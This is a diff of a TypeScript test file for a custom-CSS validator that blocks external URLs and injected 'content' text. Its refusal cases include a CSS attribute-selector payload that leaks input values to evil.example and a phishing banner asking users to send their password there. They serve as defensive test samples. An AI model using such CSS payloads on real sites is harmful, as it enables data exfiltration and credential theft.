@@ -1,16 +1,32 @@
 import { CssRule, CUSTOM_CSS_MAX_BYTES, customCssProblems, isSafeCssUrl, scanCss } from './custom-css.rule';
 
 describe('custom CSS rule', () => {
-  it('accepts ordinary CSS, https and relative URLs', () => {
+  it('accepts ordinary CSS, URLs on our own origin and the instance logo', () => {
+    const logoUrl = 'https://cdn.example.com/logo.png';
     const css = [
-      '.header { color: var(--instance-color); background: url(https://cdn.example.com/bg.png) no-repeat; }',
-      ".logo { background-image: url('/assets/logo.svg'), url(\"img/a.png\"), url(data.png); }",
-      'a:hover, .data:hover { scroll-behavior: smooth; content: "Note: see http://example.com"; }',
-      '@font-face { font-family: X; src: url(HTTPS://fonts.example.com/x.woff2) format("woff2"), local("X"); }',
-      '.x { background: image-set("https://a.example/1.png" 1x, "/2.png" 2x); }',
+      '.header { color: var(--instance-color); background: url(/instance/bg.png) no-repeat; }',
+      ".logo { background-image: url('/assets/logo.svg'), url(\"img/a.png\"), url(data.png), url( https://cdn.example.com/logo.png ); }",
+      'a:hover, .data:hover { scroll-behavior: smooth; }',
+      '.x::before { content: ""; } .y::after { content: none !important } ol li::before { content: counter(item) } q::before{content:open-quote}',
+      '@font-face { font-family: X; src: url(/fonts/x.woff2) format("woff2"), local("X"); }',
+      '.x { background: image-set("/1.png" 1x, "/2.png" 2x); }',
       '@media (max-width: 769px) { .menu { width: 260px } }',
     ].join('\n');
-    expect(customCssProblems(css)).toEqual([]);
+    expect(customCssProblems(css, { logoUrl })).toEqual([]);
+  });
+
+  it.each([
+    ['.a { background: url(https://cdn.example.com/bg.png) }', CssRule.UnsafeUrl],
+    ['input[value^="a"] { background: url("https://evil.example/?a") }', CssRule.UnsafeUrl],
+    ['@font-face { src: url(HTTPS://fonts.example.com/x.woff2) }', CssRule.UnsafeUrl],
+    ['.x { background: image-set("https://a.example/1.png" 1x) }', CssRule.UnsafeUrl],
+    ['.banner::after { content: "Your session expired: send your password to help@evil.example" }', CssRule.Content],
+    ['.a::before { content: attr(data-email) }', CssRule.Content],
+    ['.a::before{content:"\\59 ou won"}', CssRule.Content],
+    ['.a::before { CONTENT: "x" }', CssRule.Content],
+    ['.a::before { content: counter(x) "." }', CssRule.Content],
+  ])('refuses what reads or writes beyond the product: %s', (css, rule) => {
+    expect(customCssProblems(css, { logoUrl: 'https://cdn.example.com/logo.png' })).toContain(rule);
   });
 
   it.each([
@@ -41,7 +57,7 @@ describe('custom CSS rule', () => {
   });
 
   it('is not fooled by comment markers inside strings', () => {
-    expect(customCssProblems('.a { content: "/*" } .b { background: url(http://x.example/a.png) } .c { content: "*/" }')).toEqual([
+    expect(customCssProblems('.a { font-family: "/*" } .b { background: url(http://x.example/a.png) } .c { font-family: "*/" }')).toEqual([
       CssRule.UnsafeUrl,
     ]);
   });
@@ -71,8 +87,9 @@ describe('custom CSS rule', () => {
   });
 
   it('classifies URLs', () => {
-    for (const ok of ['https://a.example/x.png', '/x.png', 'x.png', '../x.png', '#frag', '', '?q=1']) expect(isSafeCssUrl(ok)).toBe(true);
-    for (const bad of ['http://a.example', '//a.example/x', '\\\\a.example', ' javascript:x', 'data:x', 'blob:x', 'HTTP://a']) {
+    for (const ok of ['/x.png', 'x.png', '../x.png', '#frag', '', '?q=1']) expect(isSafeCssUrl(ok)).toBe(true);
+    expect(isSafeCssUrl(' https://a.example/x.png', ['https://a.example/x.png'])).toBe(true);
+    for (const bad of ['https://a.example/x.png', 'http://a.example', '//a.example/x', '\\\\a.example', ' javascript:x', 'data:x', 'blob:x', 'HTTP://a']) {
       expect(isSafeCssUrl(bad)).toBe(false);
     }
   });
